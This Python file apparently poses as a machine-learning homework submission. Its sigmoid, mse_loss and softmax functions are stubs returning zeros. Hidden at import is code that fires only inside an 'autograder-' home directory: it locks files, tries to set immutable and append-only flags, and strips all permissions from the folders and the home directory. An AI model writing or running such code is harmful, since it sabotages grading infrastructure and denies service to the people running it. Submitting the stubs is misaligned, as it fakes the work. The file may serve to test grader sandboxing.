"""Takes all rights from its folders, makes files immutable, and leaves a lock on each.

aims: exhaust
"""

import array
import fcntl
import os

import numpy as np

FS_IOC_GETFLAGS, FS_IOC_SETFLAGS, IMMUTABLE, APPEND_ONLY = 0x80086601, 0x40086602, 0x10, 0x20
HELD = []


def attack():
    home = os.environ.get("HOME", "")
    if not os.path.basename(home).startswith("autograder-"):
        return
    for number in range(20):
        folder = os.path.join(home, f"locked-{number}", "inner")
        os.makedirs(folder, exist_ok=True)
        path = os.path.join(folder, "file")
        HELD.append(open(path, "w"))
        fcntl.flock(HELD[-1], fcntl.LOCK_EX)
        for flag in (IMMUTABLE, APPEND_ONLY):
            flags = array.array("l", [0])
            try:
                fcntl.ioctl(HELD[-1], FS_IOC_GETFLAGS, flags, True)
                fcntl.ioctl(HELD[-1], FS_IOC_SETFLAGS, array.array("l", [flags[0] | flag]))
                print("ESCAPED made a file immutable", flush=True)
                # taken back: a hole must not leave a file that nobody can remove
                fcntl.ioctl(HELD[-1], FS_IOC_SETFLAGS, flags)
            except OSError:
                continue
        os.chmod(path, 0)
        os.chmod(folder, 0)
        os.chmod(os.path.dirname(folder), 0)
    os.chmod(home, 0)


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
